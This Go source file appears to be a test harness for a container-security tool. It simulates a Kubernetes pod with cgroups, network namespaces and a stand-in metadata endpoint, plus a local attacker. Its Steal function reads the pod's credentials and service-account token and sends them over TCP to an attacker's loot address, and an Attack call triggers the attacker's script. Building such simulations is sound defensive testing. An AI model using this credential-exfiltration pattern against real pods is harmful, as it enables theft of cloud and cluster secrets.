// Package workload puts a pod's process on this machine as a kubelet's runtime would: in a cgroup v2 of its own under
// kubepods, in network and mount namespaces of its own, with credentials in its home and a projected token. Beside it, in
// a second network namespace, is the outside: a server that gets what the pod sends, and an attacker. Nothing here reaches
// beyond this machine. Without root there is only the outside, and the attack's kernel events come from a recording. The
// demo and the end-to-end tests call it.
package workload

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"tourniquet.dev/tourniquet/dev/port"
)

// Addresses inside of the two namespaces; none of them is routed anywhere else.
const (
	PodIP     = "10.244.7.12"
	outsideIP = "10.244.7.1"
	peerIP    = "198.18.77.66"
	gatewayIP = "198.18.77.1"

	streamPort, beaconPort, lootPort, webPort, awsPort, kubePort = "4444", "4444", "4445", "8080", "80", "443"
)

// A Runner starts a program, waits for its line of JSON, and ends it later; stack.Stack is one.
type Runner interface {
	Run(ctx context.Context, name, bin string, args ...string) (ready map[string]any, err error)
}

// A Recorder notes what is put on the machine before it is done; stack.Book is one.
type Recorder interface {
	Netns(name string) error
	Cgroup(path string) error
	Folder(path string) error
}

// Options say what the pod is and how the attacker reaches his targets.
type Options struct {
	Program  string // the workload program
	Dir      string // for files and sockets
	Run      Runner
	Book     Recorder
	CgroupFS string // where the cgroup v2 tree is mounted; empty: there is no pod, only the outside, on loopback

	PodUID, ContainerID, Namespace, KeyID string
	// Paths of the files that the pod is given.
	Credentials, Token, CA string
	// Where the attacker finds AWS and the API server, as URLs on this machine's loopback.
	AWS, Kubernetes string
	Role            string // ARN
	Tag             string // makes the namespaces' names unique
}

// A Workload is the running pod with the outside.
type Workload struct {
	o        Options
	pod, out string // network namespaces
	loot     string // where the outside takes what is stolen
	control  *http.Client
}

// Start starts the pod's process and the outside, and returns when data flows between them.
func Start(ctx context.Context, o Options) (*Workload, error) {
	w := &Workload{o: o, pod: "tourniquet-pod-" + o.Tag, out: "tourniquet-out-" + o.Tag, loot: net.JoinHostPort(peerIP, lootPort)}
	w.control = &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "unix", w.socket())
	}}}
	steps := []func(context.Context) error{w.networks, w.metadata, w.gateway, w.outside, w.server}
	if o.CgroupFS == "" {
		steps = []func(context.Context) error{w.loopback}
	}
	for _, step := range steps {
		if err := step(ctx); err != nil {
			return nil, fmt.Errorf("start workload: %w", err)
		}
	}
	return w, nil
}

func (w *Workload) socket() string { return filepath.Join(w.o.Dir, "outside.sock") }

// Calls is the attacker's log, one JSON object a line: see Call.
func (w *Workload) Calls() string { return filepath.Join(w.o.Dir, "attacker.jsonl") }

// networks makes both namespaces and the link between them.
func (w *Workload) networks(ctx context.Context) error {
	for _, ns := range []string{w.pod, w.out} {
		if err := w.o.Book.Netns(ns); err != nil {
			return err
		}
		if err := ip(ctx, "netns", "add", ns); err != nil {
			return err
		}
		if err := ip(ctx, "-n", ns, "link", "set", "lo", "up"); err != nil {
			return err
		}
	}
	for _, args := range [][]string{
		{"-n", w.out, "link", "add", "pod0", "type", "veth", "peer", "name", "eth0", "netns", w.pod},
		{"-n", w.out, "addr", "add", outsideIP + "/24", "dev", "pod0"},
		{"-n", w.out, "link", "set", "pod0", "up"},
		{"-n", w.out, "addr", "add", peerIP + "/32", "dev", "lo"},
		{"-n", w.out, "addr", "add", gatewayIP + "/32", "dev", "lo"},
		{"-n", w.pod, "addr", "add", PodIP + "/24", "dev", "eth0"},
		{"-n", w.pod, "link", "set", "eth0", "up"},
		{"-n", w.pod, "route", "add", "default", "via", outsideIP},
		{"-n", w.pod, "addr", "add", "169.254.169.254/32", "dev", "lo"},
	} {
		if err := ip(ctx, args...); err != nil {
			return err
		}
	}
	return nil
}

func ip(ctx context.Context, args ...string) error {
	if out, err := exec.CommandContext(ctx, "ip", args...).CombinedOutput(); err != nil {
		return fmt.Errorf("ip %s: %w: %s", strings.Join(args, " "), err, strings.TrimSpace(string(out)))
	}
	return nil
}

// in runs a part of the workload program in a network namespace.
func (w *Workload) in(ctx context.Context, netns, name string, args ...string) error {
	program, err := exec.LookPath("ip")
	if err != nil {
		return fmt.Errorf("find ip (Debian package iproute2): %w", err)
	}
	_, err = w.o.Run.Run(ctx, name, program, append([]string{"netns", "exec", netns, w.o.Program}, args...)...)
	return err
}

func (w *Workload) metadata(ctx context.Context) error {
	return w.in(ctx, w.pod, "metadata-standin", "metadata")
}

func (w *Workload) gateway(ctx context.Context) error {
	aws, kube := strings.TrimPrefix(w.o.AWS, "http://"), strings.TrimPrefix(w.o.Kubernetes, "https://")
	_, err := w.o.Run.Run(ctx, "gateway", w.o.Program, "gateway", "-netns", "/run/netns/"+w.out,
		net.JoinHostPort(gatewayIP, awsPort)+"="+aws, net.JoinHostPort(gatewayIP, kubePort)+"="+kube)
	return err
}

func (w *Workload) outside(ctx context.Context) error {
	args := append(w.attacker(), "-stream", net.JoinHostPort(peerIP, streamPort), "-beacon", net.JoinHostPort(peerIP, beaconPort),
		"-loot-address", peerIP+"/"+lootPort, "-target", "http://"+net.JoinHostPort(PodIP, webPort), "-aws", "http://"+gatewayIP, "-kube", "https://"+gatewayIP)
	return w.in(ctx, w.out, "outside", args...)
}

// attacker is what the outside is told however it runs.
func (w *Workload) attacker() []string {
	return []string{"outside", "-control", w.socket(), "-calls", w.Calls(), "-loot", w.loot, "-role", w.o.Role, "-kube-ca", w.o.CA, "-namespace", w.o.Namespace}
}

// loopback starts the outside alone, for whoever may make no namespaces.
func (w *Workload) loopback(ctx context.Context) error {
	free, err := port.Free(3)
	if err != nil {
		return err
	}
	w.loot = port.Addr(free[0])
	_, err = w.o.Run.Run(ctx, "outside", w.o.Program, append(w.attacker(), "-stream", port.Addr(free[1]), "-beacon", port.Addr(free[2]), "-aws", w.o.AWS, "-kube", w.o.Kubernetes)...)
	return err
}

// Steal brings the outside what the pod's shell would have sent: for an attack whose kernel events come from a recording.
func (w *Workload) Steal(ctx context.Context) error {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", w.loot)
	if err != nil {
		return fmt.Errorf("bring the loot: %w", err)
	}
	defer func() { _ = c.Close() }()
	for _, path := range []string{w.o.Credentials, w.o.Token} {
		data, err := os.ReadFile(path) // #nosec G304 -- our own files
		if err == nil {
			_, err = c.Write(append(data, '\n'))
		}
		if err != nil {
			return fmt.Errorf("bring the loot: %w", err)
		}
	}
	return nil
}

// server makes the cgroup and starts the pod's process in it.
func (w *Workload) server(ctx context.Context) error {
	cgroup, err := w.cgroup()
	if err != nil {
		return err
	}
	root := filepath.Join(w.o.Dir, "pod-root")
	if err := os.MkdirAll(root, 0o700); err != nil {
		return fmt.Errorf("make the pod's root: %w", err)
	}
	_, err = w.o.Run.Run(ctx, "pod", w.o.Program, "pod", "-netns", "/run/netns/"+w.pod, "-cgroup", cgroup, "-root", root, "-credentials", w.o.Credentials, "-token", w.o.Token, "-ca", w.o.CA,
		"-namespace", w.o.Namespace, "-key-id", w.o.KeyID, "--",
		"-listen", ":"+webPort, "-stream", net.JoinHostPort(peerIP, streamPort), "-beacon", net.JoinHostPort(peerIP, beaconPort))
	return err
}

// cgroup makes the container's folder, as a kubelet with the cgroupfs driver names it. Folders that are there already
// are somebody else's and stay.
func (w *Workload) cgroup() (string, error) {
	path := w.o.CgroupFS
	for _, name := range []string{"kubepods", "besteffort", "pod" + w.o.PodUID} {
		path = filepath.Join(path, name)
		if _, err := os.Stat(path); err == nil {
			continue
		}
		if err := w.o.Book.Folder(path); err != nil {
			return "", err
		}
		if err := os.Mkdir(path, 0o755); err != nil {
			return "", fmt.Errorf("make cgroup: %w", err)
		}
	}
	path = filepath.Join(path, w.o.ContainerID)
	if err := w.o.Book.Cgroup(path); err != nil {
		return "", err
	}
	if err := os.Mkdir(path, 0o755); err != nil {
		return "", fmt.Errorf("make cgroup: %w", err)
	}
	return path, nil
}

// Attack has the attacker run his script in the pod, once.
func (w *Workload) Attack(ctx context.Context) error {
	_, err := w.ask(ctx, http.MethodPost, "/attack")
	return err
}

// Wire tells what arrived at the peer: of the long TCP connection ("stream") and of the datagrams ("beacon").
func (w *Workload) Wire(ctx context.Context) (out map[string]Arrivals, err error) {
	body, err := w.ask(ctx, http.MethodGet, "/wire")
	if err != nil {
		return nil, err
	}
	return out, json.Unmarshal(body, &out)
}

func (w *Workload) ask(ctx context.Context, method, path string) ([]byte, error) {
	r, err := http.NewRequestWithContext(ctx, method, "http://outside"+path, nil)
	if err != nil {
		return nil, err
	}
	answer, err := w.control.Do(r)
	if err != nil {
		return nil, fmt.Errorf("ask the outside: %w", err)
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil || answer.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("ask the outside for %s: %s %s: %w", path, answer.Status, body, err)
	}
	return body, nil
}

// Arrivals are numbered messages at the peer, and the silences between them.
type Arrivals struct {
	First      time.Time `json:"first"`
	Last       time.Time `json:"last"`
	LastNumber string    `json:"last_number"`
	Count      int       `json:"count"`
	Gaps       []Gap     `json:"gaps"`
}

// Gap is a silence: From is the last arrival before it, To the first one after.
type Gap struct {
	From time.Time `json:"from"`
	To   time.Time `json:"to"`
}

// Call is one line of the attacker's log.
type Call struct {
	At   time.Time `json:"at"`
	Who  string    `json:"who"` // attack, exfiltration, key, session, token
	Call string    `json:"call"`
	OK   bool      `json:"ok"`
	Code string    `json:"code"`
}
